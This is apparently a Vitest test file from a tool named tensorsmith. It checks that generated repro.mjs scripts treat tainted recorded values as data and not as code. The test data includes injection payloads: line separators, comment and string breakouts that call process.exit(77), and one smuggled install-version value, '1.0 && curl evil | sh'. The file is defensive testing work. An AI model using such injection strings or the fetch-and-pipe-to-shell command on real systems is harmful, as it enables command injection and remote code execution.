import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import ts from 'typescript';
import { afterAll, describe, expect, it } from 'vitest';
import { readCaseFolder, type CaseMeta } from '../../src/store/case-folder.js';
import { installCommand, scriptLiteral } from '../../src/store/repro-script-ort.js';
import { OWN_CLI, reproScript, writeReproScript } from '../../src/store/repro-script.js';
import type { Model } from '../../src/ir/model.js';
import { makeTensor } from '../../src/ir/tensor.js';
import { smallModel, tempDir } from '../helpers.js';
import { logModel, POSITIVE_X, writeCase } from './repro-helpers.js';

// Issue 13: a recorded value that ends a comment or a string of a generated repro.mjs runs as code
// when the user runs the script. Each payload would exit 77 if it ever ran.
const PAYLOADS: Readonly<Record<string, string>> = {
  'U+2028': 'x\u2028globalThis.process.exit(77)//',
  'U+2029': 'x\u2029globalThis.process.exit(77)//',
  'a block comment end': '*/ process.exit(77) /*',
  'a newline': 'x\nprocess.exit(77)//',
  'a carriage return': 'x\rprocess.exit(77)//',
  'a string end': '"; process.exit(77); "\'; process.exit(77); \'',
};
const MARKER = 'exit(77)';

// Inside the repository, so that the scripts' bare `import 'onnxruntime-node'` resolves from its
// node_modules, as it does from a folder where the user ran `npm i onnxruntime-node`.
const SCRATCH = join(process.cwd(), 'node_modules', '.cache');
mkdirSync(SCRATCH, { recursive: true });
const root = mkdtempSync(join(SCRATCH, 'tensorsmith-repro-injection-'));
// Outside the repository: no node_modules above it, so onnxruntime cannot be imported there.
const outside = tempDir('tensorsmith-repro-injection-');
afterAll(() => {
  rmSync(root, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

/** The case's meta.json with PAYLOAD in every recorded value a script shows (the backend name too, unless kept). */
function tainted(meta: CaseMeta, payload: string, keepBackend: boolean): CaseMeta {
  const backend = keepBackend ? meta.verdict.backend : `${meta.verdict.backend}${payload}`;
  return {
    ...meta,
    seed: payload,
    toolVersion: payload,
    verdict: { ...meta.verdict, backend, message: payload },
    backends: meta.backends.map((b) => ({ ...b, name: backend, version: payload })),
    signature: { ...meta.signature, hash: payload },
  };
}

/** The comments of a script, as a JavaScript scanner reads them (U+2028 and U+2029 end a line comment). */
function comments(text: string): string[] {
  const scanner = ts.createScanner(ts.ScriptTarget.Latest, false, ts.LanguageVariant.Standard, text);
  const found: string[] = [];
  for (let kind = scanner.scan(); kind !== ts.SyntaxKind.EndOfFileToken; kind = scanner.scan()) {
    if (kind === ts.SyntaxKind.SingleLineCommentTrivia || kind === ts.SyntaxKind.MultiLineCommentTrivia || kind === ts.SyntaxKind.ShebangTrivia) {
      found.push(scanner.getTokenText());
    }
  }
  return found;
}

interface DataLiteral {
  readonly name: string;
  readonly start: number;
  readonly end: number;
  readonly value: unknown;
}

/** The script's top-level `const NAME = <JSON>;` constants, each found by parsing its JSON. */
function dataLiterals(text: string): DataLiteral[] {
  const found: DataLiteral[] = [];
  for (const m of text.matchAll(/^const ([A-Z_]+) = /gm)) {
    const start = m.index + m[0].length;
    for (let end = text.indexOf(';', start); end !== -1; end = text.indexOf(';', end + 1)) {
      try {
        found.push({ name: m[1]!, start, end, value: JSON.parse(text.slice(start, end)) });
        break;
      } catch {
        // A ';' inside the JSON (or not JSON at all): try the next one.
      }
    }
  }
  return found;
}

/** The script holds PAYLOAD only as data: in no comment, and every trace of it inside a JSON constant that parses back to it. */
function expectOnlyAsData(text: string, payload: string): void {
  for (const comment of comments(text)) expect(comment).not.toContain(MARKER);
  const literals = dataLiterals(text);
  let at = text.indexOf(MARKER);
  expect(at).toBeGreaterThan(-1);
  for (; at !== -1; at = text.indexOf(MARKER, at + 1)) {
    const inside = literals.find((l) => l.start <= at && at < l.end);
    expect(inside, `'${MARKER}' at ${at} outside every data constant`).toBeDefined();
  }
  const recorded = literals.find((l) => l.name === 'CASE')?.value as { seed: string; message: string; toolVersion: string };
  expect(recorded).toMatchObject({ seed: payload, message: payload, toolVersion: payload });
  expect(text).not.toMatch(/[\u2028\u2029]/);
}

function runScript(dir: string, env: NodeJS.ProcessEnv = process.env) {
  const r = spawnSync(process.execPath, ['repro.mjs'], { cwd: dir, encoding: 'utf8', env, timeout: 20_000 });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

/** A stand-in tensorsmith CLI: answers --version; records the node it runs on and its arguments, then exits CODE. */
function standInCli(code: number): { path: string; calls: () => { execPath: string; argv: string[] } } {
  const dir = mkdtempSync(join(outside, 'cli-'));
  const path = join(dir, 'main.js');
  const log = join(dir, 'calls.json');
  writeFileSync(
    path,
    [
      "import { writeFileSync } from 'node:fs';",
      "if (process.argv[2] === '--version') process.exit(0);",
      `writeFileSync(${JSON.stringify(log)}, JSON.stringify({ execPath: process.execPath, argv: process.argv.slice(2) }));`,
      `process.exit(${code});`,
    ].join('\n'),
  );
  return { path, calls: () => JSON.parse(readFileSync(log, 'utf8')) as { execPath: string; argv: string[] } };
}

/** A PATH with node and, when given, a stand-in npx (a shell script) and nothing else: no real npx to reach the registry. */
function isolatedPath(npx?: string): string {
  const bin = mkdtempSync(join(outside, 'bin-'));
  symlinkSync(process.execPath, join(bin, 'node'));
  if (npx !== undefined) {
    writeFileSync(join(bin, 'npx'), `#!/bin/sh\n${npx}\n`);
    chmodSync(join(bin, 'npx'), 0o755);
  }
  return bin;
}

const wrongOnOrtAll = { kind: 'wrong-result', backend: 'ort-all', message: "output 'out'[0, 1] is 7, expected 5" } as const;

/** A case folder of an external adapter's bug, with no repro.mjs yet. */
async function adapterCase(dir: string): Promise<CaseMeta> {
  await writeCase(dir, { model: logModel(), inputs: new Map([['x', POSITIVE_X]]), verdict: { kind: 'wrong-result', backend: 'log-wrong' } });
  return readCaseFolder(dir).meta!;
}

/** A case folder of an onnxruntime bug whose outputs agree with expected.json (its script exits 0). */
async function ortCase(dir: string, model: Model = smallModel(), backend = 'ort-all', pkg = 'onnxruntime-node'): Promise<CaseMeta> {
  const inputs = new Map(model.inputs.map((i) => [i.name, i.name === 'x' ? makeTensor('float32', [2, 3], [0.5, -1, 2, 3, -0.25, 1.5]) : makeTensor('float32', [2], [0.1, -0.2])]));
  await writeCase(dir, { model, inputs, verdict: { ...wrongOnOrtAll, backend }, sut: { package: pkg, version: '1.30.0' } });
  return readCaseFolder(dir).meta!;
}

describe('scriptLiteral', () => {
  it('is JSON that a script reads back as the same value, with no raw line or paragraph separator', () => {
    const value = { seed: PAYLOADS['U+2028'], other: PAYLOADS['U+2029'], list: [PAYLOADS['a block comment end'], 1, null] };
    for (const indent of [undefined, 2]) {
      const literal = scriptLiteral(value, indent);
      expect(literal).not.toMatch(/[\u2028\u2029]/);
      expect(literal).toContain('\\u2028');
      expect(new Function(`return ${literal};`)()).toEqual(value);
    }
    expect(scriptLiteral('a\nb')).toBe('"a\\nb"');
  });

  it('leaves out of the printed install command a version that is not one', () => {
    expect(installCommand('onnxruntime-node', '1.30.0')).toBe('npm i onnxruntime-node@1.30.0');
    expect(installCommand('onnxruntime-node', '1.0 && curl evil | sh')).toBe('npm i onnxruntime-node');
    expect(installCommand('onnxruntime-web', undefined)).toBe('npm i onnxruntime-web');
  });
});

describe('a recorded value cannot break out of a generated repro.mjs', () => {
  for (const [what, payload] of Object.entries(PAYLOADS)) {
    it(`the onnxruntime script holds a seed, message, version and output name with ${what} as data, and runs as it should`, async () => {
      const dir = join(root, `ort-${what.replace(/\W+/g, '-')}`);
      // The payload names the graph output too: the script's OUTPUTS lists it.
      const model = smallModel();
      const output = `out${payload}`;
      const named: Model = { ...model, nodes: model.nodes.map((n) => (n.name === 'add' ? { ...n, outputs: [{ ...n.outputs[0]!, name: output }] } : n)), outputs: [output] };
      const meta = await ortCase(dir, named);
      writeReproScript(dir, { meta: tainted(meta, payload, true), model: named });
      const text = readFileSync(join(dir, 'repro.mjs'), 'utf8');
      expectOnlyAsData(text, payload);
      const r = runScript(dir);
      expect(r.code).not.toBe(77);
      expect(r.err).toBe('');
      expect(r.out).toMatch(/^OK: every output agrees with expected\.json$/m);
      expect(r.code).toBe(0);
    });

    it(`the script that replays with tensorsmith holds a seed, backend, message and op with ${what} as data, and runs as it should`, async () => {
      const dir = join(root, `cli-${what.replace(/\W+/g, '-')}`);
      const meta = await adapterCase(dir);
      const model = logModel();
      const opNamed: Model = { ...model, nodes: model.nodes.map((n) => (n.name === 'log' ? { ...n, op: `Log${payload}` } : n)) };
      const cli = standInCli(1);
      writeReproScript(dir, { meta: tainted(meta, payload, false), model: opNamed, cli: cli.path });
      const text = readFileSync(join(dir, 'repro.mjs'), 'utf8');
      expectOnlyAsData(text, payload);
      expect((dataLiterals(text).find((l) => l.name === 'CASE')?.value as { model: { ops: string[] } }).model.ops).toContain(`Log${payload}`);
      const r = runScript(dir);
      expect(r.code).not.toBe(77);
      expect(r.code).toBe(1);
      expect(cli.calls().argv).toEqual(['repro', `${dir}/`]);
    });
  }
});

describe('the repro.mjs of a SUT without a standalone script runs the local tensorsmith', () => {
  it('records the absolute path of the CLI that wrote it and runs it with node, never a plain npx tensorsmith', async () => {
    const dir = join(root, 'own-cli');
    const text = reproScript({ meta: await adapterCase(dir), model: logModel() });
    expect(OWN_CLI).toBe(resolve('dist', 'cli', 'main.js'));
    expect(dataLiterals(text).find((l) => l.name === 'CLI')?.value).toBe(OWN_CLI);
    expect(text).toContain('spawnSync(process.execPath, [CLI, ...args]');
    expect(text).not.toMatch(/['"]npx['"],\s*\[\s*['"]tensorsmith['"]/);
    // The one npx call it has, for when the CLI is gone, never installs.
    expect(text.match(/spawnSync\('npx', \[[^\]]*/g)).toEqual(["spawnSync('npx', ['--no-install', 'tensorsmith', ...args"]);
  });

  it('passes on the exit code of the CLI it runs, with the folder and its own arguments', async () => {
    const dir = join(root, 'stand-in-cli');
    const meta = await adapterCase(dir);
    for (const code of [0, 1, 2]) {
      const cli = standInCli(code);
      writeReproScript(dir, { meta, model: logModel(), cli: cli.path });
      const r = spawnSync(process.execPath, ['repro.mjs', '--backend-module', 'm.mjs'], { cwd: dir, encoding: 'utf8', timeout: 20_000 });
      expect(r.status).toBe(code);
      expect(r.stdout).toBe('tensorsmith bug case: wrong-result on log-wrong; replaying it with tensorsmith repro\n');
      expect(cli.calls()).toEqual({ execPath: process.execPath, argv: ['repro', `${dir}/`, '--backend-module', 'm.mjs'] });
    }
  });

  it('exits 2 when the CLI is there but does not start (node exits 1 on it, as on a reproducing bug)', async () => {
    const dir = join(root, 'broken-cli');
    const cli = join(outside, 'broken-cli.mjs');
    writeFileSync(cli, "import 'tensorsmith-dependency-that-is-gone';\n");
    writeReproScript(dir, { meta: await adapterCase(dir), model: logModel(), cli });
    const r = runScript(dir);
    expect(r.err).toMatch(/^repro\.mjs cannot run: the tensorsmith CLI that wrote this case \(.+broken-cli\.mjs\) does not start: --version exits 1\n$/);
    expect(r.code).toBe(2);
  });

  it('exits 2 in one line when the CLI is gone and there is no npx', async () => {
    const dir = join(root, 'no-cli-no-npx');
    writeReproScript(dir, { meta: await adapterCase(dir), model: logModel(), cli: join(outside, 'gone', 'main.js') });
    const r = runScript(dir, { PATH: isolatedPath() });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^repro\.mjs cannot run: the tensorsmith CLI that wrote this case \(.+gone\/main\.js\) is gone and npx finds no tensorsmith installed here \(this case was written by tensorsmith test\)\n$/);
  });

  it('exits 2 when the CLI is gone and npx --no-install finds no tensorsmith (npx exits 1 then, as a reproducing bug does)', async () => {
    const dir = join(root, 'no-cli-npx-fails');
    writeReproScript(dir, { meta: await adapterCase(dir), model: logModel(), cli: join(outside, 'gone', 'main.js') });
    const log = join(outside, 'npx-fails.log');
    const r = runScript(dir, { PATH: isolatedPath(`echo "$@" >> ${log}\nexit 1`) });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^repro\.mjs cannot run: .* npx finds no tensorsmith installed here/);
    expect(readFileSync(log, 'utf8')).toBe('--no-install tensorsmith --version\n');
  });

  it('runs an installed tensorsmith through npx --no-install when the CLI is gone, and passes its exit code on', async () => {
    const dir = join(root, 'no-cli-npx-finds');
    writeReproScript(dir, { meta: await adapterCase(dir), model: logModel(), cli: join(outside, 'gone', 'main.js') });
    const log = join(outside, 'npx-finds.log');
    const npx = `echo "$@" >> ${log}\nif [ "$3" = "--version" ]; then exit 0; fi\nexit 1`;
    const r = runScript(dir, { PATH: isolatedPath(npx) });
    expect(r.code).toBe(1);
    expect(readFileSync(log, 'utf8')).toBe(`--no-install tensorsmith --version\n--no-install tensorsmith repro ${dir}/\n`);
  });
});

describe('the onnxruntime repro.mjs exits 2, not 1, when it cannot run', () => {
  const ortPackages = [
    { backend: 'ort-all', pkg: 'onnxruntime-node' },
    { backend: 'ort-web-wasm', pkg: 'onnxruntime-web' },
  ];
  for (const { backend, pkg } of ortPackages) {
    it(`says in one line that ${pkg} cannot be imported, and how to install it`, async () => {
      const dir = join(outside, backend);
      expect(relative(process.cwd(), dir).startsWith('..')).toBe(true);
      writeReproScript(dir, { meta: await ortCase(dir, smallModel(), backend, pkg), model: smallModel() });
      const env = { ...process.env };
      delete env.NODE_PATH;
      const r = runScript(dir, env);
      expect(r.code).toBe(2);
      expect(r.out).toBe('');
      const lines = r.err.split('\n').filter((l) => l !== '');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(new RegExp(`^repro\\.mjs cannot run: ${pkg} cannot be imported \\(.*${pkg}.*\\): run npm i ${pkg}@1\\.30\\.0 in this folder$`));
    });
  }

  it('exits 2 when inputs.json is unreadable, model.onnx is gone or expected.json lacks an output', async () => {
    const breakages: Readonly<Record<string, (dir: string) => void>> = {
      'the case files cannot be read: .*JSON': (dir) => writeFileSync(join(dir, 'inputs.json'), 'not json'),
      'the case files cannot be read: ENOENT.*model\\.onnx': (dir) => unlinkSync(join(dir, 'model.onnx')),
      "expected.json has no output 'out'": (dir) => writeFileSync(join(dir, 'expected.json'), JSON.stringify({ outputs: {} })),
    };
    for (const [message, breakCase] of Object.entries(breakages)) {
      const dir = join(root, `broken-${Object.keys(breakages).indexOf(message)}`);
      writeReproScript(dir, { meta: await ortCase(dir), model: smallModel() });
      breakCase(dir);
      const r = runScript(dir);
      expect(r.err).toMatch(new RegExp(`^repro\\.mjs cannot run: ${message}`));
      expect(r.code).toBe(2);
    }
  });
});
